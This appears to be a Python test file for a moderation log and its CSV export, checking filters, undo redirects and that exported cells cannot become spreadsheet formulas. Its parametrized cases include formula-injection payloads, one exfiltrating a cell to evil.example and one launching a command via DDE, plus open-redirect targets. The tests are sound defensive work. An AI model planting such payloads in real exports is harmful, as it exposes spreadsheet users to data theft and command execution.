"""The log: what was decided, narrowed, and as a table that no spreadsheet can be attacked with."""

import csv
import html
import io
import re

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.orm import Session

from app.accounts.models import Role
from app.comments import actions as comments
from app.desk import logbook
from app.desk.deciding import actions as desk
from app.desk.models import Decision, ReviewItem, Verb
from app.writing import actions as drafts
from tests.conftest import FakeClock
from tests.counting import queries
from tests.making import Maker
from tests.visiting import Page, Visitor


@pytest.fixture
def history(make: Maker, session: Session, time: FakeClock) -> dict[str, Decision]:
    """Four decisions of four days: by an editor, by an admin, by the rules, about a piece."""
    post, admin = make.post("Boats"), make.account(Role.ADMIN)
    made = {"approved": make.decision(make.item(
        comments.KIND, make.comment(post, "Ropes.").id), Verb.APPROVE)}
    time.forward(days=1)
    item = make.item(comments.KIND, make.comment(post, "Anchors.", name="Anton Anchor").id)
    made["rejected"] = desk.decide(session, item, Verb.REJECT, admin, now=time.now(),
                                   reason="Off topic", message="Écrivez autrement.")
    time.forward(days=1)
    item = make.item(comments.KIND, make.comment(post, "Buy rope.", name="Sel Ler").id)
    made["ruled"] = desk.settle(session, item, Verb.SPAM, now=time.now())
    session.commit()
    time.forward(days=1)
    made["returned"] = make.decision(make.item(
        drafts.KIND, make.submission(title="Night shifts").id), Verb.RETURN)
    return made


def listed(page: Page) -> set[str]:
    return {each for each in page.ids if each.startswith("decision-")}


ASKED = {
    "": ["approved", "rejected", "ruled", "returned"],
    "decision=spam": ["ruled"], "decision=return": ["returned"],
    "by=The+rules": ["ruled"], "by=Admin+Quill": ["rejected"],
    "kind=submission": ["returned"], "person=email:anton@reader.example": ["rejected"],
    "since=2026-05-06": ["ruled", "returned"], "until=2026-05-05": ["approved", "rejected"],
    "since=2026-05-05&until=2026-05-05": ["rejected"],
    "q=rope": ["approved", "ruled"], "q=off": ["rejected"], "q=BOATS+anton": ["rejected"],
    "q=écrivez": ["rejected"], "q=rope&decision=spam": ["ruled"], "q=%25": [],
    "batch=none": []}


def test_the_log_shows_what_was_asked_for_and_the_table_holds_the_same(
        editor: Visitor, make: Maker, history: dict[str, Decision]) -> None:
    for query, names in ASKED.items():
        page = editor.get(f"/desk/log?{query}")
        assert listed(page) == {f"decision-{history[name].id}" for name in names}, query
        table = editor.client.get(f"/desk/log.csv?{query}").text
        assert len(list(csv.reader(io.StringIO(table)))) == len(names) + 1, query
        assert f"/desk/log.csv{'?' if query else ''}" in page.text, query
    make.index()
    for query, names in ASKED.items():
        page = editor.get(f"/desk/log?{query}")
        assert listed(page) == {f"decision-{history[name].id}" for name in names}, query


@pytest.mark.parametrize("query", [
    "decision=maybe", "kind=nonsense", "since=yesterday", "until=2026-02-30", "since=0001-01-01",
    "until=9999-12-31"])
def test_what_cannot_be_is_not_there(editor: Visitor, query: str) -> None:
    editor.get(f"/desk/log?{query}", 404)
    assert editor.client.get(f"/desk/log.csv?{query}").status_code == 404


def test_what_the_rules_decided_is_told_from_what_anybody_decided(
        make: Maker, session: Session, editor: Visitor, history: dict[str, Decision]) -> None:
    assert '<span class="badge badge-quiet">The rules</span>' in editor.get("/desk/log").text
    history["rejected"].account_name = "The rules"
    session.commit()
    assert editor.get("/desk/log").text.count('badge-quiet">The rules') == 1


def test_a_filter_stays_on_the_next_page(make: Maker, session: Session, editor: Visitor) -> None:
    post = make.post()
    for number in range(51):
        make.comment(post, approved=True, name=f"Reader{number}")
    page = editor.get("/desk/log?decision=approve&q=remark")
    [link] = [each["href"] for each in page.all("a") if each.get("rel") == "next"]
    assert "decision=approve&q=remark" in link
    assert len(listed(editor.get(link))) == 1


def test_decisions_made_together_say_so(
        editor: Visitor, session: Session, history: dict[str, Decision]) -> None:
    for name in ("approved", "rejected"):
        history[name].batch = "b7"
    session.commit()
    page = editor.get("/desk/log")
    assert page.words.count("one of 2") == 2
    assert len(listed(editor.get("/desk/log?batch=b7"))) == 2
    costs = len(queries(editor, "/desk/log"))
    history["ruled"].batch = "b8"
    session.commit()
    assert len(queries(editor, "/desk/log")) == costs


def test_the_table_says_everything_once_and_in_order(
        editor: Visitor, history: dict[str, Decision]) -> None:
    editor.post(f"/desk/decisions/{history['rejected'].id}/undo")
    answer = editor.client.get("/desk/log.csv")
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"] == "attachment; filename=decisions-2026-05-07.csv"
    assert answer.headers["Cache-Control"] == "private, no-store"
    assert answer.data.startswith(b"\xef\xbb\xbf"), "Excel reads it as UTF-8"
    assert answer.data.count(b"\r\n") == 5
    rows = list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"))))
    assert [row["decision"] for row in rows] == ["Sent back", "Spam", "Rejected", "Approved"]
    assert rows[2] == {
        "decided at": "2026-05-05 12:00:00", "decision": "Rejected", "kind": "Comment",
        "title": "Boats", "from": "Anton Anchor", "text": "Anchors.", "by": "Admin Quill",
        "reason": "Off topic", "message": "Écrivez autrement.", "publish at": "",
        "taken back at": "2026-05-07 12:00:00", "taken back by": "Editor Quill", "batch": "",
        "item": rows[2]["item"]}


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example?x="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "＝1+1", "＋1", "－1", "＠SUM(1)"])
def test_no_cell_of_the_table_is_a_formula(make: Maker, editor: Visitor, text: str) -> None:
    make.comment(make.post(), text, approved=True, name=f"{text[:40]} x")
    row = next(csv.DictReader(io.StringIO(editor.client.get("/desk/log.csv").text)))
    assert row["text"] == f"'{text}"
    assert row["from"].startswith("'")


def test_what_another_spreadsheet_takes_for_a_cell_begins_no_formula() -> None:
    assert logbook.defused("hello;=1+cmd") == "hello;'=1+cmd"
    assert logbook.defused("a\n  @SUM(1)") == "a\n'  @SUM(1)"


@given(st.text(max_size=30))
def test_a_defused_cell_begins_no_formula_and_loses_no_sign(cell: str) -> None:
    safe = logbook.defused(cell)
    assert safe.replace("'", "") == cell.replace("'", "")
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


def undo_form(page: Page) -> tuple[str, dict[str, str]]:
    """Where the first undo of a page is sent, and what goes with it."""
    part = page.text[page.text.index("/undo\"") - 60:]
    form = re.search(r'action="([^"]+/undo)"', part)
    hidden = re.search(r'name="next" value="([^"]+)"', part)
    assert form
    assert hidden
    return form.group(1), {"next": html.unescape(hidden.group(1))}


@pytest.mark.parametrize("address", ["/desk/log", "/desk/log?kind=comment&decision=reject",
                                     "/desk/items/{}"])
def test_whoever_takes_back_from_the_log_stays_there(
        editor: Visitor, make: Maker, item: ReviewItem, address: str) -> None:
    address = address.format(item.id)
    make.decision(item, Verb.REJECT)
    path, sent = undo_form(editor.get(address))
    answer = editor.post(path, sent)
    assert answer.headers["Location"] == address
    assert "Taken back. “Boats” waits again." in editor.follow(answer).words


def test_so_does_whoever_takes_back_a_lot(editor: Visitor, make: Maker) -> None:
    post = make.post()
    for _ in range(2):
        make.comment(post, approved=True)
    for decision in make.session.scalars(sa.select(Decision)):
        decision.batch = "b" * 32
    make.session.commit()
    page = editor.get("/desk/log?decision=approve")
    assert any("/batches/" in form["action"] for form in page.all("form"))
    answer = editor.post(f"/desk/batches/{'b' * 32}/undo", {"next": "/desk/log?decision=approve"})
    assert answer.headers["Location"] == "/desk/log?decision=approve"
    assert "2 taken back." in editor.follow(answer).words


@pytest.mark.parametrize("elsewhere", ["https://x.example/", "//x.example/", "/\\x.example", "x"])
def test_nobody_is_led_away_by_taking_something_back(
        editor: Visitor, make: Maker, item: ReviewItem, elsewhere: str) -> None:
    decision = make.decision(item, Verb.REJECT)
    answer = editor.post(f"{decision.path}/undo", {"next": elsewhere})
    assert answer.headers["Location"] == "/desk/"


def test_without_javascript_a_decision_is_followed_by_its_undo(
        editor: Visitor, make: Maker, item: ReviewItem) -> None:
    queue = editor.follow(editor.post(f"/desk/items/{item.id}/approval", headers={
        "Referer": "http://localhost/desk/?kind=comment"}))
    assert "Approved: Rita Reader, Boats." in queue.words
    path, sent = undo_form(queue)
    answer = editor.post(path, sent)
    assert answer.headers["Location"] == "/desk/?kind=comment"
    assert f"item-{item.id}" in editor.follow(answer).ids


def test_what_was_said_with_a_decision_is_found_though_the_item_was_indexed_before(
        make: Maker, editor: Visitor) -> None:
    item = make.item(comments.KIND, make.comment(make.post()).id)
    make.index()
    decided = make.decision(item, Verb.REJECT, message="Unmistakable words.")
    for _ in range(2):
        for words in ("unmistakABLE", f"words {item.person.split()[0]}"):
            assert listed(editor.get(f"/desk/log?q={words}")) == {f"decision-{decided.id}"}
        make.index()
    assert listed(editor.get("/desk/log?q=unmistakable&decision=spam")) == set()
